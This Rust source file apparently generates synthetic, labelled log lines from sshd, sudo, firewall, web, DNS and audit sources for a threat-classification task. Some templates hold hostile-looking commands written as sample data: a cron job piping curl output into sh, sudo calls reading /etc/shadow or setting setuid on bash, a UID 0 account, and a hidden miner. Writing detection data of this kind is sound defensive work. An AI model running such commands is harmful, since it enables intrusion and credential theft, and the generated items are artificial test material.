//! Log lines of sshd, sudo, the packet filter, the web server, DNS and the audit daemon.

use super::values::{domain, high_port, host, private_ip, public_ip, service_account, stamp, user};
use crate::source::Source;
use crate::task::{Draft, rank};

pub(crate) const LABELS: &[&str] = &["benign", "brute_force", "escalation", "scan", "tunnel", "malware"];

pub(crate) fn draft(source: &mut Source, index: u64) -> Draft {
    let answer = rank(index, LABELS.len());
    Draft::labeled(LABELS, answer, event(source, answer))
}

/// A line of no particular kind, for running text: most of them are benign.
pub(crate) fn any_line(source: &mut Source) -> String {
    let label = if source.chance(60) { 0 } else { source.position(LABELS.len()) };
    event(source, label).0
}

fn event(source: &mut Source, label: usize) -> (String, String) {
    let (body, reason) = match LABELS[label] {
        "brute_force" => brute_force(source),
        "escalation" => escalation(source),
        "scan" => scan(source),
        "tunnel" => tunnel(source),
        "malware" => malware(source),
        _ => benign(source),
    };
    (format!("{} {} {body}", stamp(source), host(source)), reason)
}

fn process_id(source: &mut Source) -> u32 {
    source.between(300, 9_999)
}

fn benign(source: &mut Source) -> (String, String) {
    let (pid, name) = (process_id(source), user(source));
    match source.below(9) {
        0 => (
            format!(
                "sshd[{pid}]: Accepted publickey for {name} from {} port {} ssh2",
                private_ip(source),
                high_port(source)
            ),
            "a key login was accepted".into(),
        ),
        1 => (
            format!(
                "sshd[{pid}]: Failed password for {name} from {} port {} ssh2",
                private_ip(source),
                high_port(source)
            ),
            "one wrong password from inside is normal".into(),
        ),
        2 => (
            format!(
                "sudo: {name} : TTY=pts/{} ; PWD=/home/{name} ; USER=root ; COMMAND=/usr/bin/{}",
                source.below(6),
                source.any(&["apt update", "systemctl status nginx", "tail /var/log/syslog", "journalctl -xe"])
            ),
            "the command is routine administration".into(),
        ),
        3 => (
            format!(
                "CRON[{pid}]: ({}) CMD (/usr/local/bin/{})",
                source.any(&["root", "backup", name]),
                source.own(&[
                    "backup.sh",
                    "rotate-logs",
                    "renew-certs",
                    "sync-mail",
                    "report-disk",
                    "clean-tmp",
                    "update-index",
                    "check-raid"
                ])
            ),
            "a planned job ran".into(),
        ),
        4 => (
            format!(
                "nginx: {} \"GET {} HTTP/1.1\" 200 {}",
                public_ip(source),
                source.own(&[
                    "/index.html",
                    "/about",
                    "/products/42",
                    "/css/site.css",
                    "/login",
                    "/img/logo.png",
                    "/search?q=shoes",
                    "/api/v1/items"
                ]),
                source.between(200, 48_000)
            ),
            "an ordinary page was served".into(),
        ),
        5 => (
            format!("dnsmasq[{pid}]: query[A] {} from {}", domain(source), private_ip(source)),
            "a short name was resolved".into(),
        ),
        6 => (
            format!(
                "systemd[1]: {} {}.service.",
                source.any(&["Started", "Stopped", "Reloaded"]),
                source.own(&["nginx", "postgresql", "rsyslog", "docker", "chronyd", "postfix", "redis", "cron"])
            ),
            "a service changed state as planned".into(),
        ),
        7 => (
            format!(
                "kernel: [UFW ALLOW] SRC={} DST={} PROTO=TCP DPT={}",
                private_ip(source),
                private_ip(source),
                source.any(&["22", "80", "443", "5432"])
            ),
            "an allowed connection inside the network".into(),
        ),
        _ => (
            format!(
                "clamd[{pid}]: /srv/files/{name}/{}: OK",
                source.any(&["report.pdf", "notes.txt", "photo.jpg", "budget.xlsx"])
            ),
            "the scanned file is clean".into(),
        ),
    }
}

fn brute_force(source: &mut Source) -> (String, String) {
    let (pid, address, port) = (process_id(source), public_ip(source), high_port(source));
    let count = source.between(12, 480);
    let name = if source.obfuscates() { user(source) } else { service_account(source) };
    let line = match source.below(6) {
        0 => format!(
            "sshd[{pid}]: message repeated {count} times: [ Failed password for {name} from {address} port {port} ssh2]"
        ),
        1 => format!(
            "sshd[{pid}]: error: maximum authentication attempts exceeded for {name} from {address} port {port} ssh2 [preauth]"
        ),
        2 => format!(
            "sshd[{pid}]: PAM {count} more authentication failures; logname= uid=0 tty=ssh rhost={address} user={name}"
        ),
        3 => format!("nginx: {address} \"POST /login HTTP/1.1\" 401 {count} failures for {name} in 60s"),
        4 => {
            format!("dovecot: imap-login: Aborted login (auth failed, {count} attempts): user=<{name}>, rip={address}")
        }
        _ => format!("vsftpd[{pid}]: FAIL LOGIN: Client {address}, user {name}, try {count}"),
    };
    (line, format!("many failed logins came from {address}"))
}

fn escalation(source: &mut Source) -> (String, String) {
    let (pid, name) = (process_id(source), user(source));
    match source.below(6) {
        0 => (
            format!(
                "sudo: {name} : TTY=pts/{} ; PWD=/tmp ; USER=root ; COMMAND=/bin/{}",
                source.below(6),
                source.any(&["bash -p", "sh -i", "chmod u+s /bin/bash", "cat /etc/shadow"])
            ),
            format!("{name} took a root shell from /tmp"),
        ),
        1 => (
            format!(
                "sudo: {name} : user NOT in sudoers ; TTY=pts/{} ; USER=root ; COMMAND={}",
                source.below(6),
                source.any(&["/bin/su", "/usr/bin/passwd root", "/usr/sbin/visudo", "/bin/bash"])
            ),
            format!("{name} tried to become root without the right"),
        ),
        2 => (
            format!("usermod[{pid}]: add '{name}' to group '{}'", source.any(&["sudo", "wheel", "root", "docker"])),
            format!("{name} was put into a privileged group"),
        ),
        3 => (
            format!(
                "audit[{pid}]: SYSCALL syscall=setuid a0=0 auid={} uid=0 comm=\"{}\" exe=\"/tmp/.{}\"",
                source.between(1000, 1040),
                source.any(&["x", "run", "pwn", "a.out"]),
                source.letters(5)
            ),
            "a program in /tmp set its user to root".into(),
        ),
        4 => (
            format!("useradd[{pid}]: new user: name={name}, UID=0, GID=0, home=/root, shell=/bin/bash"),
            "a second account with UID 0 was made".into(),
        ),
        _ => (
            format!(
                "su[{pid}]: {} su for root by {name} on pts/{}",
                source.any(&["FAILED", "BAD", "denied"]),
                source.below(6)
            ),
            format!("{name} tried to become root"),
        ),
    }
}

fn scan(source: &mut Source) -> (String, String) {
    let (pid, address) = (process_id(source), public_ip(source));
    let count = source.between(60, 999);
    let line = match source.below(6) {
        0 => format!(
            "kernel: [UFW BLOCK] SRC={address} DST={} PROTO=TCP SYN ports={}-{}",
            private_ip(source),
            source.between(1, 99),
            source.between(1000, 9999)
        ),
        1 => format!("sshd[{pid}]: Did not receive identification string from {address} port {}", high_port(source)),
        2 => format!(
            "snort[{pid}]: [122:1:0] (portscan) TCP {}: {address} -> {}",
            source.any(&["Portscan", "Portsweep", "Decoy Portscan"]),
            private_ip(source)
        ),
        3 => format!(
            "nginx: {address} {count} x 404 in 10s: /{} /{} /{}",
            source.own(&[
                "wp-admin",
                "phpmyadmin",
                ".git/HEAD",
                "setup.php",
                "old",
                "backup.zip",
                "manager",
                "test.cgi"
            ]),
            source.any(&[".env", "config.php", "admin", "vendor"]),
            source.any(&["xmlrpc.php", "solr", "cgi-bin", "actuator"])
        ),
        4 => format!(
            "kernel: martian probe: {address} touched {count} ports on {} in {} s",
            private_ip(source),
            source.between(2, 40)
        ),
        _ => format!(
            "sshd[{pid}]: banner exchange: Connection from {address} port {}: invalid format",
            high_port(source)
        ),
    };
    (line, format!("{address} probed for open doors"))
}

fn tunnel(source: &mut Source) -> (String, String) {
    let pid = process_id(source);
    let client = private_ip(source);
    let (length, zone) = (source.between(24, 40), domain(source));
    let label = source.letters(length);
    let line = match source.below(5) {
        0 => format!("dnsmasq[{pid}]: query[TXT] {label}.{zone} from {client}"),
        1 => format!("named[{pid}]: client {client}: query: {label}.t.{zone} IN NULL"),
        2 => format!("dnsmasq[{pid}]: query[CNAME] {label}.{zone} from {client}"),
        3 => format!("unbound[{pid}]: info: {client} {label}.{zone}. TXT IN {} bytes", source.between(400, 900)),
        _ => format!(
            "suricata[{pid}]: DNS {client} -> {zone}: {} queries with long labels {label}",
            source.between(300, 2000)
        ),
    };
    (line, format!("long encoded names went to {zone}"))
}

fn malware(source: &mut Source) -> (String, String) {
    let (pid, name) = (process_id(source), user(source));
    let file = format!(
        "{}.{}",
        source.own(&["invoice", "update", "setup", "photo", "patch", "reader", "codec", "scan"]),
        source.any(&["exe", "scr", "js", "sh"])
    );
    match source.below(5) {
        0 => (
            format!(
                "clamd[{pid}]: /srv/files/{name}/{file}: {}.{} FOUND",
                source.any(&["Win.Trojan", "Unix.Backdoor", "Win.Worm", "Js.Dropper"]),
                source.between(1000, 9999)
            ),
            format!("the scanner found a threat in {file}"),
        ),
        1 => (
            format!("CRON[{pid}]: ({name}) CMD (curl -s http://{}/{file} | sh)", public_ip(source)),
            "a job pipes a download into a shell".into(),
        ),
        2 => (
            format!(
                "audit[{pid}]: EXECVE a0=\"/dev/shm/.{}\" a1=\"--pool\" a2=\"{}:{}\"",
                source.letters(6),
                domain(source),
                source.any(&["3333", "4444", "5555"])
            ),
            "a hidden miner was started from memory".into(),
        ),
        3 => (
            format!(
                "suricata[{pid}]: {} beacon {} -> {} every {} s",
                source.any(&["C2", "botnet", "RAT"]),
                private_ip(source),
                public_ip(source),
                source.any(&["30", "60", "90", "300"])
            ),
            "a host calls a control server at a fixed beat".into(),
        ),
        _ => (
            format!("systemd[1]: Started {}.service: ExecStart=/tmp/{file} --daemon", source.letters(7)),
            "a service with a random name runs from /tmp".into(),
        ),
    }
}
